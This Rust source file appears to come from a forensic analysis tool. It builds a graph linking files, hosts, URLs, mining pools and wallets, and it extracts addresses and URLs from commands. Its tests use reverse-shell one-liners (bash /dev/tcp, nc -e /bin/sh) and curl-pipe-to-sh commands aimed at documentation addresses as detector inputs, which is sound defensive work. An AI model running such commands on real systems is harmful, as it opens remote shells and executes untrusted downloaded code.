//! Runs every kind's query and stores the edges.

use super::Edge;
use super::kinds::{CLEANUP, KINDS, VIEWS};
use crate::facts::{Error, Facts, Time};
use rusqlite::Connection;
use rusqlite::functions::FunctionFlags;
use std::collections::BTreeSet;
use std::net::IpAddr;

/// Finds the edges in all facts, stores them in the table `edges` and returns them: kind after
/// kind as they are declared, each in the order of its query. One edge a kind and pair of nodes.
///
/// # Errors
/// Where SQLite fails.
pub fn build(facts: &Facts) -> Result<Vec<Edge>, Error> {
    let fail = |doing: &str, cause| Error::Sql { doing: format!("graph: {doing}"), cause };
    let connection = facts.connection();
    functions(connection).map_err(|e| fail("functions", e))?;
    connection.execute_batch(VIEWS).map_err(|e| fail("views", e))?;
    let mut edges = Vec::new();
    let mut seen = BTreeSet::new();
    for kind in KINDS {
        let found = query(connection, kind.word, kind.sql).map_err(|e| fail(kind.word, e))?;
        for (cited_source, edge) in found {
            if edge.origin != edge.target
                && seen.insert((edge.edge, edge.origin.clone(), edge.target.clone()))
            {
                edges.push((cited_source, edge));
            }
        }
    }
    connection.execute_batch(CLEANUP).map_err(|e| fail("cleaning up", e))?;
    facts.together(|facts| {
        let mut rows = facts.inserter()?;
        for (number, (source, edge)) in edges.iter().enumerate() {
            rows.insert(number, source, edge)?;
        }
        Ok::<(), Error>(())
    })?;
    Ok(edges.into_iter().map(|(_, edge)| edge).collect())
}

/// The edges of one kind, each with its source: the fact that it rests on.
fn query(
    connection: &Connection,
    word: &'static str,
    sql: &str,
) -> rusqlite::Result<Vec<(String, Edge)>> {
    let mut statement = connection.prepare(sql)?;
    let mut rows = statement.query([])?;
    let mut edges = Vec::new();
    while let Some(row) = rows.next()? {
        // A node that could not be named (a path not known, a host not parsed) makes no edge.
        let (Some(origin), Some(target)) =
            (row.get::<_, Option<String>>(0)?, row.get::<_, Option<String>>(2)?)
        else {
            continue;
        };
        let text = |at: usize| row.get::<_, Option<String>>(at).map(Option::unwrap_or_default);
        let cited = text(5)?;
        edges.push((
            cited.clone(),
            Edge {
                origin,
                origin_label: text(1)?,
                edge: word,
                target,
                target_label: text(3)?,
                because: text(4)?,
                cited,
                time: row.get::<_, Option<i64>>(6)?.map(Time),
            },
        ));
    }
    Ok(edges)
}

fn functions(connection: &Connection) -> rusqlite::Result<()> {
    let flags = FunctionFlags::SQLITE_UTF8 | FunctionFlags::SQLITE_DETERMINISTIC;
    connection.create_scalar_function("host_node", 1, flags, |context| {
        Ok(context.get::<Option<String>>(0)?.map(|host| host_node(&host)))
    })?;
    connection.create_scalar_function("url_host", 1, flags, |context| {
        let url = context.get::<Option<String>>(0)?;
        Ok(url.as_deref().and_then(url_host).map(str::to_owned))
    })?;
    connection.create_scalar_function("url_in", 1, flags, |context| {
        let text = context.get::<Option<String>>(0)?;
        Ok(text.as_deref().and_then(url_in).map(str::to_owned))
    })?;
    connection.create_scalar_function("address_in", 1, flags, |context| {
        let text = context.get_raw(0).as_str_or_null().ok().flatten().map(str::to_owned);
        Ok(text.as_deref().and_then(address_in).map(|address| address.to_string()))
    })?;
    connection.create_scalar_function("first_path", 1, flags, |context| {
        // Names are bytes; one that is no text names no node.
        let list = context.get_raw(0).as_str_or_null().ok().flatten().map(str::to_owned);
        Ok(list.as_deref().and_then(first_path).map(str::to_owned))
    })?;
    connection.create_scalar_function("file_node", 2, flags, |context| {
        let root = context.get::<Option<String>>(0)?;
        let path = context.get::<Option<String>>(1)?;
        Ok(path.map(|path| file_node(root.as_deref().unwrap_or("/"), &path)))
    })?;
    connection.create_scalar_function("name_node", 3, flags, |context| {
        let (kind, value) = (context.get::<String>(0)?, context.get::<String>(1)?);
        Ok(name_node(&kind, &value, context.get::<Option<String>>(2)?.as_deref()))
    })?;
    connection.create_scalar_function("stamp", 1, flags, |context| {
        Ok(context.get::<Option<i64>>(0)?.map(|time| Time(time).to_second().to_string()))
    })?;
    connection.create_scalar_function("kind_word", 1, flags, |context| {
        Ok(match context.get::<String>(0)?.as_str() {
            "url" => "URL".to_owned(),
            "pool" => "mining pool".to_owned(),
            other => other.to_owned(),
        })
    })
}

/// A file's node: its path, with the root before it where that is not the host's own.
pub(super) fn file_node(root: &str, path: &str) -> String {
    if root == "/" || root.is_empty() {
        format!("file/{path}")
    } else {
        format!("file/{root}:{path}")
    }
}

/// `address/…` for an address in any notation of it, `name/…` for a name.
pub(super) fn host_node(host: &str) -> String {
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    match bare.parse::<IpAddr>() {
        Ok(address) => format!("address/{}", address.to_canonical()),
        Err(_) => format!("name/{}", bare.trim_end_matches('.').to_lowercase()),
    }
}

fn name_node(kind: &str, value: &str, host: Option<&str>) -> String {
    match kind {
        "wallet" => format!("wallet/{value}"),
        "url" if value.contains("://") => format!("url/{value}"),
        _ => match host.or_else(|| url_host(value)) {
            Some(host) => host_node(host),
            None => host_node(split_port(value).0),
        },
    }
}

/// `host:port`, `[v6]:port` or a bare host, apart.
pub(super) fn split_port(text: &str) -> (&str, Option<u16>) {
    match text.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') || host.ends_with(']') => match port.parse() {
            Ok(port) => (host.trim_start_matches('[').trim_end_matches(']'), Some(port)),
            Err(_) => (text, None),
        },
        _ => (text.trim_start_matches('[').trim_end_matches(']'), None),
    }
}

/// The host of a URL: between `//` (and a user) and the port, path or query.
pub(super) fn url_host(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    Some(split_port(host).0).filter(|host| !host.is_empty())
}

/// The first absolute path of a list, which the loader splits at blanks and colons.
fn first_path(list: &str) -> Option<&str> {
    list.split([':', ' ']).find(|path| path.starts_with('/'))
}

/// The first URL in a command.
fn url_in(text: &str) -> Option<&str> {
    let start = ["http://", "https://", "ftp://"].iter().filter_map(|s| text.find(s)).min()?;
    let url = text.get(start..)?;
    let end = url
        .find(|c: char| c.is_whitespace() || c.is_control() || "\"'`|;<>()\\".contains(c))
        .unwrap_or(url.len());
    url.get(..end)
}

/// The first IPv4 address outside that a command names other than as the host of its first URL.
fn address_in(text: &str) -> Option<IpAddr> {
    let host = url_in(text).and_then(url_host).unwrap_or_default();
    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '-' && c != '_')
        .filter(|word| *word != host && word.bytes().filter(|b| *b == b'.').count() == 3)
        .filter_map(|word| word.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4))
        .find(|address| super::shared::outside(*address))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_in_commands() {
        for (text, address) in [
            ("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", Some("198.51.100.23")),
            ("nc -e /bin/sh 198.51.100.23 4444", Some("198.51.100.23")),
            ("curl http://198.51.100.23/x | sh", None),
            ("ping 10.0.0.1 && /opt/app-1.2.3.4/run 127.0.0.1", None),
        ] {
            assert_eq!(address_in(text).map(|a| a.to_string()).as_deref(), address, "{text}");
        }
    }

    #[test]
    fn hosts_unify_however_they_are_written() {
        for (host, node) in [
            ("10.1.2.3", "address/10.1.2.3"),
            ("::ffff:10.1.2.3", "address/10.1.2.3"),
            ("[2001:DB8::1]", "address/2001:db8::1"),
            ("AP.Luckpool.NET.", "name/ap.luckpool.net"),
        ] {
            assert_eq!(host_node(host), node);
        }
    }

    #[test]
    fn urls_are_taken_apart() {
        for (url, host) in [
            ("http://192.0.2.1/cc/index.html", Some("192.0.2.1")),
            ("stratum+tcp://user:x@pool.example:3333", Some("pool.example")),
            ("https://[2001:db8::1]:8443/a", Some("2001:db8::1")),
            ("http:///nothing", None),
            ("no url", None),
        ] {
            assert_eq!(url_host(url), host);
        }
        assert_eq!(url_in("curl -s http://a.example/x.sh|sh"), Some("http://a.example/x.sh"));
        assert_eq!(url_in("/usr/bin/true"), None);
    }
}
